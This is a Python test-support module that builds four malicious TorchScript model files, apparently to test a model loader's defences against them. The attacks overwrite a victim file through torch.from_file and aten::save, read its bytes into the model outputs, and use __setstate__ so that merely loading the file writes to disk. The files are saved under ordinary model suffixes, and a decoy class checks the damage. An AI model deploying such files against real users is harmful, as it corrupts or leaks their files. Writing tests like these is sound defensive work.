"""Malicious TorchScript networks: programs that touch files when run, or merely loaded.

A scan of the operators TorchScript can call (``torch._C._jit_get_all_schemas()``, every schema
with a ``str`` or ``Storage`` argument) finds two that reach the file system: ``aten::from_file``
(maps a file: writing the tensor writes the file, ``shared=False`` reads it) and ``aten::save``
(writes a pickle to any path). A TorchScript class may also run code on load (``__setstate__``).
Each file here is a working attack (``test_the_programs_are_real_attacks`` runs them on a decoy).
"""

from __future__ import annotations

import os
import warnings
from pathlib import Path

import torch
from torch import nn


class MapAndFill(nn.Module):
    """The issue's attack: map the victim with ``torch.from_file(shared=True)`` and fill it."""

    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size
        self.fc = nn.Linear(1, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        t = torch.from_file(self.path, shared=True, size=self.size, dtype=torch.uint8)
        t.fill_(65)
        return self.fc(x.flatten(1).mean(1, keepdim=True)) + t[0].to(x.dtype) * 0


class SaveOver(nn.Module):
    """``aten::save``: replace the victim with a pickle archive."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.fc = nn.Linear(1, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        torch.ops.aten.save(x, self.path)
        return self.fc(x.flatten(1).mean(1, keepdim=True))


class ReadSecret(nn.Module):
    """``aten::from_file(shared=False)``: read a file into the outputs (exfiltration)."""

    def __init__(self, path: str, size: int):
        super().__init__()
        self.path = path
        self.size = size

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        secret = torch.from_file(self.path, shared=False, size=self.size, dtype=torch.uint8)
        return secret[:2].to(x.dtype).unsqueeze(0).repeat(x.shape[0], 1)


class SaveOnLoad(nn.Module):
    """Runs ``aten::save`` from ``__setstate__``: loading the file is enough."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        self.training = state[1]
        torch.ops.aten.save(torch.zeros(1), self.path)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def write_programs(folder: Path, victim: Path) -> dict[str, Path]:
    """One TorchScript file per attack on ``victim``, under the suffixes users give networks."""
    folder.mkdir(parents=True, exist_ok=True)
    size = 16  # bytes: the victim must hold at least this many
    modules = {
        "map_and_fill.ts": MapAndFill(str(victim), size),
        "save_over.pt": SaveOver(str(victim)),
        "read_secret.pth": ReadSecret(str(victim), size),
        "save_on_load.pt": SaveOnLoad(str(victim)),
    }
    out = {}
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        for name, module in modules.items():
            torch.jit.script(module).save(str(folder / name))
            out[name] = folder / name
    return out


class Victim:
    """A user's file whose bytes and modification time must never change."""

    def __init__(self, path: Path):
        self.path = path
        path.write_bytes(b"precious user data, never to be touched\n" * 4)
        os.utime(path, ns=(1_600_000_000_000_000_000, 1_600_000_000_000_000_000))
        self.stat = (path.read_bytes(), path.stat().st_mtime_ns, path.stat().st_size)

    def unchanged(self) -> bool:
        st = self.path.stat()
        return (self.path.read_bytes(), st.st_mtime_ns, st.st_size) == self.stat
